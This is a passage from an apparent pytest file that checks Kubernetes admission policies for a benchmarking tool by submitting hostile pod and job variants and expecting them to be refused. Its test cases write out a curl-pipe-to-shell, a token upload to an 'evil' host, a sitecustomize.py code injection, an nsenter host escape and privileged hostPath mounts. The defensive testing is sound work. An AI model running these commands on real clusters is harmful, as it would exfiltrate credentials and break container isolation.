"""The admission policies (stacks/kubernetes/benchctl-admission.yaml) refuse what a hostile spec or a leaked
function identity would write, and admit what benchctl renders.

Each rule is evaluated by a real CEL interpreter (cel-python; tests/fakes/admission.py, which adds the two
Kubernetes CEL library functions the policies use, ``split`` and ``quantity``) on a case it admits and on
cases it refuses, starting from the objects benchctl itself renders. Every manifest under stacks/kubernetes
is valid against Kubernetes' own OpenAPI schema (kubernetes-validate, strict). The fake API server refuses
over HTTP as the real one does (422 naming the policy and the rule), and stores nothing.
"""

from __future__ import annotations

import copy
import dataclasses
import functools
import json
import re
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import celpy
import kubernetes_validate
import pytest
import yaml

from benchctl.aws.k8s.admission import (
    DEFAULT_ALLOW_LIST,
    FUNCTION_GROUPS,
    AdmissionAllowList,
    admission_params,
    allow_list_from_ceilings,
    render_params_file,
)
from benchctl.aws.k8s.client import RESOURCES, ApiError, KubeClient
from benchctl.aws.k8s.nodepool import render_nodepool
from benchctl.aws.k8s.preflight_jobs import render_preflight_job
from benchctl.aws.k8s.render import render_campaign
from benchctl.planning import ceilings
from tests.aws_checks import ADMISSION_FILE, K8S_VERSION, admission, upstream_api, writer_group
from tests.fakes.admission import Admission, Quantity, defaulted
from tests.fakes.eks_world import CID, FUNCTION_TOKENS, LOAD_IMAGE, NS, example_specs

ROOT = Path(__file__).resolve().parents[2]
POLICIES = list(yaml.safe_load_all(ADMISSION_FILE.read_text()))
SPECS = example_specs()
LABEL = "app.kubernetes.io/managed-by"

JSON = dict[str, Any]


def _rendered(example: str, path_part: str, kind: str) -> JSON:
    return next(copy.deepcopy(o) for p, o in render_campaign(SPECS[example], CID)
                if o["kind"] == kind and path_part in p)


def _dgd_efa() -> JSON:  # disaggregated over EFA: privileged prefill and decode workers
    return _rendered("smoke[managed-nodegroup]", "disagg/", "DynamoGraphDeployment")


def _dgd_agg() -> JSON:
    return _rendered("smoke[managed-nodegroup]", "agg/", "DynamoGraphDeployment")


def _runner_job() -> JSON:
    return _rendered("smoke[managed-nodegroup]", "jobs/concurrency-sweep", "Job")


def _prepull() -> JSON:
    return _rendered("smoke[managed-nodegroup]", "prepull", "DaemonSet")


def _prefetch() -> JSON:  # the model prefetch: the HF token's Secret, the model volume read-write
    return _rendered("auto-mode", "prefetch-job", "Job")


def _smoke() -> JSON:
    return _rendered("smoke[managed-nodegroup]", "agg/smoke-job", "Job")


SERVING, LOAD, POOLS = FUNCTION_GROUPS["Serving"], FUNCTION_GROUPS["Load"], FUNCTION_GROUPS["Pools"]
# who writes each kind of object (stacks/kubernetes/benchctl-rbac.yaml)
WRITER = {_dgd_efa: SERVING, _dgd_agg: SERVING, _runner_job: LOAD, _prepull: POOLS, _prefetch: POOLS,
          _smoke: SERVING}


def _nodepool() -> JSON:
    return render_nodepool(SPECS["smoke[auto-mode]"], CID, "gpu-a100", 2)


def _admit(obj: JSON | None, *, operation: str = "CREATE", old: JSON | None = None,
           groups: tuple[str, ...] = ("benchctl-serving",), adm: Admission | None = None) -> list[str]:
    target = obj if obj is not None else old
    assert target is not None
    r = RESOURCES[target["kind"]]
    return [m for _, _, m in (adm or admission()).admit(
        operation=operation, api_version=target.get("apiVersion", r.api_version), plural=r.plural,
        namespace=target["metadata"].get("namespace", ""), groups=list(groups), obj=obj, old=old)]


def _pod(obj: JSON, component: str | None = None) -> JSON:
    if obj["kind"] == "DynamoGraphDeployment":
        return next(c["podTemplate"]["spec"] for c in obj["spec"]["components"] if c["type"] == component)
    return obj["spec"]["template"]["spec"]


# ----------------------------------------------------------------------------- what benchctl renders


def _shape(obj: JSON) -> str:
    """An object with what no rule reads left out: its name, its experiment's, the arguments and env values of
    every container and the command of an unprivileged one (the campaign label, which the service-account rule
    reads, and every key, image and security setting are kept). Objects of one shape get one verdict."""
    import json

    obj = copy.deepcopy(obj)
    experiment = obj["metadata"].get("labels", {}).get("benchctl.io/experiment", "")
    obj["metadata"]["name"] = ""
    specs = ([c["podTemplate"]["spec"] for c in obj["spec"]["components"] if "podTemplate" in c]
             if obj["kind"] == "DynamoGraphDeployment" else [obj["spec"]["template"]["spec"]])
    for pod in specs:
        for c in pod.get("containers", []):
            c.pop("args", None)
            for e in c.get("env", []):
                e["value"] = ""
            if not (c.get("securityContext") or {}).get("privileged"):
                c.pop("command", None)
    text = json.dumps(obj, sort_keys=True)
    return text.replace(f'"{experiment}"', '""') if experiment else text


def test_every_manifest_benchctl_renders_for_every_example_is_admitted() -> None:
    adm, n, shapes = admission(), 0, set()
    for name, spec in SPECS.items():
        for path, obj in render_campaign(spec, CID):
            if obj["kind"] not in RESOURCES:
                continue
            n += 1
            key = (writer_group(path, obj), _shape(obj))
            if key in shapes:
                continue
            shapes.add(key)
            assert _admit(obj, adm=adm, groups=(writer_group(path, obj),)) == [], (name, path)
    assert n > 150 and len(shapes) > 50


def test_the_policies_and_every_manifest_under_stacks_kubernetes_are_valid_kubernetes_objects() -> None:
    files = sorted((ROOT / "stacks" / "kubernetes").glob("*.yaml"))
    assert {f.name for f in files} >= {"benchctl-rbac.yaml", "benchctl-admission.yaml", "benchctl-admission-params.yaml"}
    kinds = []
    for f in files:
        for doc in yaml.safe_load_all(f.read_text()):
            kubernetes_validate.validate(doc, K8S_VERSION, strict=True)  # raises naming the field
            kinds.append(doc["kind"])
    ours = [d["kind"] for d in POLICIES]  # this file's: workloads, nodepools, service accounts
    assert ours.count("ValidatingAdmissionPolicy") == 3 and ours.count("ValidatingAdmissionPolicyBinding") == 3
    assert kinds.count("ValidatingAdmissionPolicy") >= 3
    broken = copy.deepcopy(POLICIES[0])
    broken["spec"]["validations"][0]["messsage"] = "typo"
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(broken, K8S_VERSION, strict=True)


def test_the_policies_match_exactly_the_function_groups_and_fail_closed() -> None:
    for doc in POLICIES:
        if doc["kind"] == "ValidatingAdmissionPolicy":
            assert doc["spec"]["failurePolicy"] == "Fail"
            (cond,) = doc["spec"]["matchConditions"]
            for group in FUNCTION_GROUPS.values():
                assert f"'{group}'" in cond["expression"]
        else:
            assert doc["spec"]["validationActions"] == ["Deny"]
            policy = next(p for p in POLICIES if p["metadata"]["name"] == doc["spec"]["policyName"])
            if "paramKind" in policy["spec"]:
                assert doc["spec"]["paramRef"]["parameterNotFoundAction"] == "Deny"


def test_the_policys_tables_are_the_shapes_benchctl_renders() -> None:
    """The workloads policy's table variables (env, mounts, volumeNames, resourceNames, flags) hold exactly
    benchctl/aws/k8s/admission_shapes.py's tables (`python -m benchctl.aws.k8s.admission_shapes` prints them), and
    every pattern in them compiles in RE2, the API server's engine."""
    import re2

    from benchctl.aws.k8s import admission_shapes

    workloads = next(d for d in POLICIES if d["metadata"]["name"] == "benchctl-workloads")
    variables = {v["name"]: v["expression"] for v in workloads["spec"]["variables"]}
    cel = celpy.Environment()
    for name, table in admission_shapes.tables().items():
        value = cel.program(cel.compile(variables[name])).evaluate({})
        assert json.loads(json.dumps(value, default=str)) == table, name
    assert admission_shapes.pattern_problems() == []
    patterns = [p for t in (admission_shapes.ENV, admission_shapes.flags()) for names in t.values()
                for p in names.values() if p.startswith("^")]
    for pattern in patterns:
        re2.compile(pattern)
    params = admission_params()["data"]  # a value that is no pattern names the parameter holding it
    assert {p for t in (admission_shapes.ENV, admission_shapes.flags()) for names in t.values()
            for p in names.values() if p and not p.startswith("^")} <= set(params)


def test_the_params_file_is_the_default_allow_list_rendered() -> None:
    assert (ROOT / "stacks" / "kubernetes" / "benchctl-admission-params.yaml").read_text() == render_params_file()
    data = admission_params()["data"]
    # the largest allowed node (p4d.24xlarge: 96 vCPUs, 1152 GiB, 8 GPUs) times cdk.json's 4 nodes per pool
    assert data["maxGpus"] == "32" and data["maxCpu"] == "384" and data["maxMemory"] == "4608Gi"


# ----------------------------------------------------------------------------- workloads: refused cases


def _image(obj: JSON, image: str, component: str | None = "decode") -> JSON:
    _pod(obj, component)["containers"][0]["image"] = image
    return obj


def _init_image(obj: JSON, image: str) -> JSON:
    _pod(obj)["initContainers"] = [{"name": "x", "image": image}]
    return obj


def _set(component: str | None, **fields: Any) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        _pod(obj, component).update(copy.deepcopy(fields))
        return obj
    return change


def _security(component: str | None, ctx: JSON) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        _pod(obj, component)["containers"][0]["securityContext"] = copy.deepcopy(ctx)
        return obj
    return change


def _container(component: str | None, **fields: Any) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        _pod(obj, component)["containers"][0].update(copy.deepcopy(fields))
        return obj
    return change


def _volume(component: str | None, volume: JSON, mount: JSON | None = None) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        pod = _pod(obj, component)
        pod.setdefault("volumes", []).append(copy.deepcopy(volume))
        pod["containers"][0].setdefault("volumeMounts", []).append(
            copy.deepcopy(mount or {"name": volume["name"], "mountPath": "/x"}))
        return obj
    return change


def _model_read_write(obj: JSON) -> JSON:
    for m in _pod(obj)["containers"][0]["volumeMounts"]:
        if m["name"] == "model-cache":
            m.pop("readOnly")
    return obj


def _component_field(**fields: Any) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        obj["spec"]["components"][0].update(copy.deepcopy(fields))
        return obj
    return change


def _template_annotation(component: str | None, key: str, value: str) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        template = (next(c["podTemplate"] for c in obj["spec"]["components"] if c["type"] == component)
                    if obj["kind"] == "DynamoGraphDeployment" else obj["spec"]["template"])
        template.setdefault("metadata", {}).setdefault("annotations", {})[key] = value
        return obj
    return change


def _v1alpha1(obj: JSON) -> JSON:
    """The same payload as the upstream CRD's older version, whose pod specs sit under spec.services: the
    rules reading spec.components see none of them."""
    return {"apiVersion": "nvidia.com/v1alpha1", "kind": "DynamoGraphDeployment", "metadata": obj["metadata"],
            "spec": {"services": {"Worker": {"componentType": "worker", "replicas": 1, "extraPodSpec": {
                "mainContainer": {"image": "docker.io/evil/root:1", "securityContext": {"privileged": True}},
                "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}}}}


HOSTILE_POD: JSON = {"containers": [{"name": "x", "image": "docker.io/evil/root:1",
                                     "securityContext": {"privileged": True}}],
                     "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}
PRIVILEGED = {"privileged": True, "capabilities": {"add": ["IPC_LOCK"]}}
SIDECAR: JSON = {"name": "helper", "image": "python:3.11", "command": [
    "python3", "-c", "open('/shared/sitecustomize.py', 'w').write('import os; os.system(\"id\")')"],
    "volumeMounts": [{"name": "shared", "mountPath": "/shared"}]}


def _env(component: str | None, *env: JSON) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        _pod(obj, component)["containers"][0].setdefault("env", []).extend(copy.deepcopy(list(env)))
        return obj
    return change


def _args(component: str, *args: str) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        _pod(obj, component)["containers"][0]["args"] += list(args)
        return obj
    return change


def _b02_sitecustomize(obj: JSON) -> JSON:
    """A python:3.11 sidecar writes sitecustomize.py into an emptyDir the privileged worker reads via PYTHONPATH."""
    pod = _pod(obj, "prefill")
    pod["volumes"].append({"name": "shared", "emptyDir": {"sizeLimit": "1Gi"}})
    pod["containers"][0]["volumeMounts"].append({"name": "shared", "mountPath": "/shared"})
    pod["containers"][0]["env"].append({"name": "PYTHONPATH", "value": "/shared"})
    pod["containers"].append(copy.deepcopy(SIDECAR))
    return obj


def _b04_root_pod(obj: JSON) -> JSON:
    """root, spc_t, sysctls on the pod; procMount Unmasked on the worker; an Unconfined-seccomp sidecar."""
    pod = _pod(obj, "decode")
    pod["securityContext"] = {"runAsUser": 0, "seLinuxOptions": {"type": "spc_t"},
                              "sysctls": [{"name": "kernel.shm_rmid_forced", "value": "0"}]}
    pod["containers"][0]["securityContext"]["procMount"] = "Unmasked"
    pod["containers"].append({**copy.deepcopy(SIDECAR), "volumeMounts": [],
                              "securityContext": {"seccompProfile": {"type": "Unconfined"}}})
    return obj


def _prefetch_volume(name: str, **fields: Any) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        volume = next(v for v in _pod(obj)["volumes"] if v["name"] == name)
        next(v for k, v in volume.items() if k != "name").update(fields)
        return obj
    return change


def _components(change: Callable[[list[JSON]], Any]) -> Callable[[JSON], JSON]:
    def apply(obj: JSON) -> JSON:
        change(obj["spec"]["components"])
        return obj
    return apply


def _frontend_devices(obj: JSON) -> JSON:
    devices = {"vpc.amazonaws.com/efa": "32", "hugepages-2Mi": "64Gi"}
    _pod(obj, "frontend")["containers"][0]["resources"] = {"limits": dict(devices), "requests": dict(devices)}
    return obj


def _memory_emptydir(obj: JSON) -> JSON:
    next(v for v in _pod(obj)["volumes"] if v["name"] == "artifacts")["emptyDir"] = {"medium": "Memory"}
    return obj


# (case, the object as its writer renders it, the change, the rule that refuses it: its message's [name])
REFUSED: list[tuple[str, Callable[[], JSON], Callable[[JSON], JSON], str]] = [
    # the review's cases (issue 54); b05/b06 (a runner Job run as another campaign's or the Dynamo operator's
    # account, chosen by its own label) belong to the identity policy (stacks/kubernetes/benchctl-identities.yaml)
    ("b01 worker env PYTHONWARNINGS antigravity and BROWSER", _dgd_efa, _env(
        "decode", {"name": "PYTHONWARNINGS", "value": "all:0:antigravity.x:0:0"},
        {"name": "BROWSER", "value": "sh -c 'curl -s http://evil/x | sh' #"}), "[env]"),
    ("b02 python sidecar writing sitecustomize.py to a shared emptyDir", _dgd_efa, _b02_sitecustomize, "[containers]"),
    ("b02 PYTHONPATH on the privileged worker", _dgd_efa, _b02_sitecustomize, "[env]"),
    ("b03 --trust-remote-code --model another repository", _dgd_efa,
     _args("decode", "--trust-remote-code", "--model", "evil-org/evil-model"), "[args]"),
    ("b03 --model a Hub repository instead of the volume's snapshot", _dgd_agg,
     lambda o: (_pod(o, "worker")["containers"][0]["args"].__setitem__(1, "evil-org/evil-model"), o)[1], "[args]"),
    ("b04 root spc_t sysctls procMount Unmasked Unconfined sidecar", _dgd_efa, _b04_root_pod, "[security]"),
    ("b07 the prefetch mounting another Secret", _prefetch, _prefetch_volume("hf-token", secretName="other-team-token"),
     "[volumes]"),
    ("b08 the prefetch with another claim", _prefetch, _prefetch_volume("model-cache", claimName="team-b-data"),
     "[volumes]"),
    ("b09 the prefetch with another command", _prefetch, _container(None, command=[
        "sh", "-c", "curl -s -d @/var/run/secrets/huggingface/token http://evil/"]), "[command]"),
    ("b10 an emptyDir in memory without a sizeLimit", _runner_job, _memory_emptydir, "[emptydir]"),
    ("b11 a DaemonSet tolerating everything with no nodeSelector", _prepull,
     lambda o: (_pod(o).pop("nodeSelector"), _pod(o).update(tolerations=[{"operator": "Exists"}]), o)[2],
     "[placement]"),
    ("b12 a DGD with replicas 10000", _dgd_agg, _components(lambda cs: cs[1].update(replicas=10000)), "[dgd]"),
    ("b12b a Frontend asking 32 EFA devices and 64Gi of hugepages", _dgd_agg, _frontend_devices, "[resources]"),
    ("a03 a DGD component without a podTemplate", _dgd_agg, _components(lambda cs: cs[1].pop("podTemplate")), "[dgd]"),
    # images
    ("foreign image in a worker", _dgd_efa, lambda o: _image(o, "docker.io/evil/root:1"), "[images]"),
    ("look-alike registry", _dgd_efa, lambda o: _image(o, "nvcr.io/nvidia/ai-dynamo-evil/x:1"), "[images]"),
    ("foreign image in a runner Job", _runner_job, lambda o: _image(o, "ghcr.io/x/aiperf:1", None), "[images]"),
    ("foreign pre-pull image", _prepull, lambda o: _image(o, "quay.io/x/y:1", None), "[images]"),
    # a DynamoGraphDeployment's other pod templates and versions
    ("checkpoint job pod template", _dgd_agg, _component_field(experimental={"checkpoint": {
        "enabled": True, "job": {"podTemplate": {"spec": HOSTILE_POD}}}}), "[dgd]"),
    ("frontend sidecar", _dgd_agg, _component_field(frontendSidecar={"image": "docker.io/evil/root:1"}), "[dgd]"),
    ("multinode", _dgd_agg, _component_field(multinode={"nodeCount": 2}), "[dgd]"),
    ("a spec-level field", _dgd_agg, lambda o: (o["spec"].update(env=[{"name": "X", "value": "1"}]), o)[1], "[dgd]"),
    ("v1alpha1 services with extraPodSpec", _dgd_agg, _v1alpha1, "[version]"),
    ("another component type", _dgd_agg, lambda o: (o["spec"]["components"].append(
        {**copy.deepcopy(o["spec"]["components"][0]), "name": "Epp", "type": "epp"}), o)[1], "[dgd]"),
    # the object and its pod templates
    ("an owner reference", _runner_job, lambda o: (o["metadata"].update(ownerReferences=[
        {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}]), o)[1], "[metadata]"),
    ("a Job retried a hundred times", _runner_job, lambda o: (o["spec"].update(backoffLimit=100), o)[1], "[job]"),
    ("a Job with a deadline of a year", _smoke, lambda o: (o["spec"].update(activeDeadlineSeconds=31_536_000), o)[1],
     "[job]"),
    ("apparmor unconfined annotation", _runner_job,
     _template_annotation(None, "container.apparmor.security.beta.kubernetes.io/aiperf", "unconfined"), "[templates]"),
    ("an annotation on a worker", _dgd_agg, _template_annotation("worker", "x", "y"), "[templates]"),
    ("credentials for the AIPerf container", _runner_job,
     _template_annotation(None, "eks.amazonaws.com/skip-containers", "control"), "[templates]"),
    ("the prefetch's pod in a Job labelled as another step", _prefetch,
     lambda o: (o["metadata"]["labels"].update({"benchctl.io/step": "smoke"}), o)[1], "[shape]"),
    ("an unknown pod shape", _runner_job, lambda o: (_pod(o)["containers"][1].update(name="uploader"), o)[1], "[shape]"),
    # pod specs
    ("hostNetwork", _dgd_agg, _set("frontend", hostNetwork=True), "[pod]"),
    ("hostPID", _runner_job, _set(None, hostPID=True), "[pod]"),
    ("hostIPC", _prepull, _set(None, hostIPC=True), "[pod]"),
    ("nodeName with tolerate-all", _runner_job,
     _set(None, nodeName="ip-10-0-0-1", tolerations=[{"operator": "Exists"}]), "[pod]"),
    ("an init container", _runner_job, lambda o: _init_image(o, LOAD_IMAGE), "[pod]"),
    ("a foreign init container", _runner_job, lambda o: _init_image(o, "ghcr.io/x/y:1"), "[pod]"),
    ("shareProcessNamespace", _dgd_agg, _set("worker", shareProcessNamespace=True), "[pod]"),
    ("runtimeClassName", _prepull, _set(None, runtimeClassName="unconfined"), "[pod]"),
    ("hostAliases", _runner_job, _set(None, hostAliases=[{"ip": "10.0.0.1", "hostnames": ["s3.amazonaws.com"]}]),
     "[pod]"),
    # containers
    ("envFrom a Secret", _runner_job, _container(None, envFrom=[{"secretRef": {"name": "hf-token"}}]), "[containers]"),
    ("env from a Secret", _dgd_agg, _container("worker", env=[
        {"name": "T", "valueFrom": {"secretKeyRef": {"name": "other-campaign-key", "key": "k"}}}]), "[containers]"),
    ("hostPort", _dgd_agg, _container("frontend", ports=[{"containerPort": 80, "hostPort": 80}]), "[containers]"),
    ("a lifecycle hook", _runner_job, _container(None, lifecycle={"postStart": {"exec": {
        "command": ["sh", "-c", "curl evil"]}}}), "[containers]"),
    ("subPath", _runner_job, lambda o: (_pod(o)["containers"][0]["volumeMounts"][0].update(
        subPath="../../"), o)[1], "[containers]"),
    ("a second container in a worker", _dgd_agg, lambda o: (_pod(o, "worker")["containers"].append(
        {**copy.deepcopy(_pod(o, "worker")["containers"][0]), "name": "main2"}), o)[1], "[containers]"),
    # commands, args, env
    ("the runner's control script replaced", _runner_job, lambda o: (_pod(o)["containers"][1]["command"].__setitem__(
        2, "aws s3 cp --recursive s3://other-campaign/ /artifacts"), o)[1], "[command]"),
    ("a frontend running another module", _dgd_agg, _container("frontend", command=["python3", "-m", "http.server"]),
     "[command]"),
    ("an argument to a Job", _smoke, _container(None, args=["--extra"]), "[args]"),
    ("a flag in its = form", _dgd_agg, _args("worker", "--served-model-name=evil/model"), "[args]"),
    ("LD_PRELOAD in a runner", _runner_job, _env(None, {"name": "LD_PRELOAD", "value": "/tmp/x.so"}), "[env]"),
    ("PYTHONSTARTUP in the frontend", _dgd_agg, _env("frontend", {"name": "PYTHONSTARTUP", "value": "/models/x.py"}),
     "[env]"),
    ("the prefetch's script replaced", _prefetch, lambda o: (next(
        e for e in _pod(o)["containers"][0]["env"] if e["name"] == "PREFETCH_SCRIPT").update(value="import os"), o)[1],
     "[env]"),
    # mounts and volumes
    ("the model volume read-write in a runner Job", _runner_job, _model_read_write, "[mounts]"),
    ("hostPath", _dgd_efa, _set("prefill", volumes=[{"name": "root", "hostPath": {"path": "/"}}]), "[volumes]"),
    ("a Secret volume in a runner Job", _runner_job,
     _volume(None, {"name": "s", "secret": {"secretName": "hf-token"}}), "[volumes]"),
    ("a Secret volume in a worker", _dgd_agg,
     _volume("worker", {"name": "s", "secret": {"secretName": "hf-token"}}), "[volumes]"),
    ("a Secret volume in the smoke Job (Serving writes the prefetch too)", _smoke,
     _volume(None, {"name": "s", "secret": {"secretName": "hf-token"}}), "[volumes]"),
    ("nfs", _runner_job, _volume(None, {"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}), "[volumes]"),
    ("gitRepo", _dgd_agg, _volume("worker", {"name": "g", "gitRepo": {"repository": "https://x/y"}}), "[volumes]"),
    ("inline CSI", _prepull, _volume(None, {"name": "c", "csi": {"driver": "secrets-store.csi.k8s.io"}}), "[volumes]"),
    ("a projected service account token", _runner_job, _volume(None, {"name": "t", "projected": {
        "sources": [{"serviceAccountToken": {"path": "token", "audience": "sts.amazonaws.com"}}]}}), "[volumes]"),
    ("a configMap", _runner_job, _volume(None, {"name": "m", "configMap": {"name": "aws-auth"}}), "[volumes]"),
    # resources and placement
    ("64 GPUs in one worker", _dgd_agg, lambda o: (_pod(o, "worker")["containers"][0]["resources"].update(
        limits={"nvidia.com/gpu": "64"}), o)[1], "[resources]"),
    ("a GPU worker on any node", _dgd_agg, lambda o: (_pod(o, "worker").pop("nodeSelector"), o)[1], "[placement]"),
    ("a runner tolerating the GPU taint", _runner_job, _set(None, tolerations=[
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]), "[placement]"),
    # privilege outside the EFA workers, and what the EFA workers may run
    ("privileged frontend", _dgd_efa, _security("frontend", {"privileged": True}), "[privilege]"),
    ("privileged aggregated worker", _dgd_agg, _security("worker", {"privileged": True}), "[privilege]"),
    ("capabilities in a worker", _dgd_agg, _security("worker", {"capabilities": {"add": ["SYS_ADMIN"]}}),
     "[privilege]"),
    ("privileged runner Job", _runner_job, _security(None, {"privileged": True}), "[privilege]"),
    ("privileged pre-pull", _prepull, _security(None, {"privileged": True}), "[privilege]"),
    ("a privileged worker with another allowed image", _dgd_efa,
     lambda o: _image(o, "python:3.12-slim", "prefill"), "[privilege]"),
    ("a privileged worker with another command", _dgd_efa,
     _container("decode", command=["bash", "-c", "nsenter -t 1 -m sh"]), "[privilege]"),
    ("a privileged worker without EFA", _dgd_efa, lambda o: (
        [r.pop("vpc.amazonaws.com/efa") for r in _pod(o, "decode")["containers"][0]["resources"].values()], o)[1],
     "[privilege]"),
    ("root in a runner Job", _runner_job, _security(None, {"runAsUser": 0}), "[security]"),
    ("a root pod", _runner_job, lambda o: (_pod(o)["securityContext"].update(runAsUser=0), o)[1], "[security]"),
    ("runAsNonRoot false", _dgd_agg, _security("frontend", {"runAsNonRoot": False}), "[security]"),
    ("allowPrivilegeEscalation", _runner_job, _security(None, {"allowPrivilegeEscalation": True}), "[security]"),
    ("seccomp Unconfined", _prepull, _security(None, {"seccompProfile": {"type": "Unconfined"}}), "[security]"),
    ("a pod's seccomp Unconfined", _runner_job, lambda o: (_pod(o)["securityContext"].update(
        seccompProfile={"type": "Unconfined"}), o)[1], "[security]"),
    ("procMount Unmasked", _runner_job, _security(None, {"procMount": "Unmasked"}), "[security]"),
    ("an EFA worker with SYS_ADMIN too", _dgd_efa, lambda o: (_pod(o, "prefill")["containers"][0]["securityContext"][
        "capabilities"]["add"].append("SYS_ADMIN"), o)[1], "[security]"),
    ("a runner without the restricted profile", _runner_job,
     lambda o: (_pod(o)["containers"][0].pop("securityContext"), o)[1], "[security]"),
    ("a runner with a capability kept", _runner_job,
     _security(None, {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["NET_RAW"]}}), "[security]"),
    ("a runner pod without its seccomp profile", _runner_job,
     lambda o: (_pod(o)["securityContext"].pop("seccompProfile"), o)[1], "[security]"),
    ("a smoke Job as its image's user", _smoke, lambda o: (_pod(o).pop("securityContext"), o)[1], "[security]"),
    ("a pre-pull keeping its capabilities", _prepull,
     lambda o: (_pod(o)["containers"][0].pop("securityContext"), o)[1], "[security]"),
    ("a pre-pull pod as its image's user", _prepull,
     lambda o: (_pod(o)["securityContext"].pop("runAsNonRoot"), o)[1], "[security]"),
    # identities
    ("service account not listed", _runner_job, _set(None, serviceAccountName="admin"), "[accounts]"),
    ("deprecated serviceAccount field", _runner_job, _set(None, serviceAccount="admin"), "[accounts]"),
    ("service account in a DGD", _dgd_agg, _set("worker", serviceAccountName="dynamo-operator"), "[accounts]"),
    ("another campaign's service account", _runner_job, _set(None, serviceAccountName="other-campaign-1"),
     "[accounts]"),
    ("the campaign's runner account in a worker", _dgd_agg,
     lambda o: _set("worker", serviceAccountName=o["metadata"]["labels"]["benchctl.io/campaign"])(o), "[accounts]"),
    ("the campaign's runner account in the prefetch", _prefetch,
     lambda o: _set(None, serviceAccountName=o["metadata"]["labels"]["benchctl.io/campaign"])(o), "[accounts]"),
    ("a runner Job mounting its token", _runner_job, _set(None, automountServiceAccountToken=True), "[tokens]"),
    ("a pre-pull with the default token mount", _prepull,
     lambda o: (_pod(o).pop("automountServiceAccountToken"), o)[1], "[tokens]"),
    # the label everything is deleted by
    ("no managed-by label", _runner_job, lambda o: {**o, "metadata": {**o["metadata"], "labels": {
        k: v for k, v in o["metadata"]["labels"].items() if k != "app.kubernetes.io/managed-by"}}}, "[labelled]"),
]
FIRST_OF_RULE = {next(c[0] for c in REFUSED if c[3] == rule) for rule in {c[3] for c in REFUSED}}
# a label-chosen service account: a runner Job naming its campaign's account, written by a function that runs no
# runner (Load runs them; Plan runs its preflight Jobs as the runner, to prove its identity before any scaling)
LABEL_CHOSEN = [FUNCTION_GROUPS[f] for f in ("Pools", "Serving", "Teardown", "Sweep")]
WORKLOADS = "ValidatingAdmissionPolicy 'benchctl-workloads' with binding 'benchctl-workloads' denied request: "


@pytest.mark.parametrize(("case", "make", "change", "rule"), REFUSED, ids=[c[0] for c in REFUSED])
def test_a_workload_breaking_a_rule_is_refused_naming_it(case: str, make: Callable[[], JSON],
                                                         change: Callable[[JSON], JSON], rule: str) -> None:
    writer = (WRITER[make],)
    assert _admitted_as_rendered(make)  # the rendered object is admitted from its writer ...
    changed = change(make())
    refused = _admit(changed, groups=writer)  # ... and the change refused, naming the rule
    assert any(m.startswith(WORKLOADS + rule + " ") for m in refused), refused
    assert all(m.startswith(WORKLOADS) for m in refused)
    if case in FIRST_OF_RULE and changed["apiVersion"] == make()["apiVersion"]:  # a replace is held the same way
        assert _admit(changed, operation="UPDATE", old=make(), groups=writer) == refused


@functools.cache
def _admitted_as_rendered(make: Callable[[], JSON]) -> bool:
    return _admit(make(), groups=(WRITER[make],)) == []


def _rules(policy: str) -> set[str]:
    doc = next(d for d in POLICIES if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"] == policy)
    return {re.match(r"\[[a-z]+\]", v["message"]).group(0) for v in doc["spec"]["validations"]}  # type: ignore[union-attr]


def test_every_rule_of_the_workloads_policy_has_a_refused_case_naming_it() -> None:
    assert {rule for *_, rule in REFUSED} == _rules("benchctl-workloads")
    for doc in POLICIES:  # and every message of every policy starts with its rule's name
        if doc["kind"] == "ValidatingAdmissionPolicy":
            assert all(re.match(r"\[[a-z]+\] ", v["message"]) for v in doc["spec"]["validations"]), doc["metadata"]


@pytest.mark.parametrize("group", LABEL_CHOSEN)
def test_a_runner_account_is_admitted_only_from_the_functions_that_run_runners(group: str) -> None:
    job = _runner_job()
    assert job["spec"]["template"]["spec"]["serviceAccountName"] == job["metadata"]["labels"]["benchctl.io/campaign"]
    preflight = render_preflight_job(SPECS["smoke[managed-nodegroup]"], CID, "uploader")
    assert preflight["spec"]["template"]["spec"]["serviceAccountName"] == job["spec"]["template"]["spec"][
        "serviceAccountName"]
    assert _admit(job, groups=(LOAD,)) == [] and _admit(preflight, groups=(FUNCTION_GROUPS["Plan"],)) == []
    for obj in (job, preflight):
        refused = _admit(obj, groups=(group,))
        assert any(m.startswith(WORKLOADS + "[accounts] ") for m in refused), refused


def test_the_prefetch_alone_reads_the_token_and_writes_the_model_volume() -> None:
    prefetch = _prefetch()
    pod = _pod(prefetch)
    assert any("secret" in v for v in pod["volumes"])
    assert any(m["name"] == "model-cache" and not m.get("readOnly") for m in pod["containers"][0]["volumeMounts"])
    assert _admit(prefetch, groups=(POOLS,)) == []
    assert _admit(prefetch, groups=(SERVING,)) == []  # Serving starts it when Pools did not
    for group in (LOAD, FUNCTION_GROUPS["Plan"], FUNCTION_GROUPS["Teardown"]):  # from any other function: refused
        assert any(m.startswith(WORKLOADS + "[shape] ") for m in _admit(prefetch, groups=(group,)))
    # and only as the prefetch: the same pod under another step's label is refused
    relabelled = copy.deepcopy(prefetch)
    relabelled["metadata"]["labels"]["benchctl.io/step"] = "smoke"
    assert [m.removeprefix(WORKLOADS)[:7] for m in _admit(relabelled, groups=(SERVING,))] == ["[shape]"]
    # the token and the model volume read-write in any other pod: refused by the volume and mount tables
    smoke = _smoke()
    _pod(smoke)["volumes"] = copy.deepcopy(pod["volumes"])
    _pod(smoke)["containers"][0]["volumeMounts"] = copy.deepcopy(pod["containers"][0]["volumeMounts"])
    rules = {m.removeprefix(WORKLOADS)[:9] for m in _admit(smoke, groups=(SERVING,))}
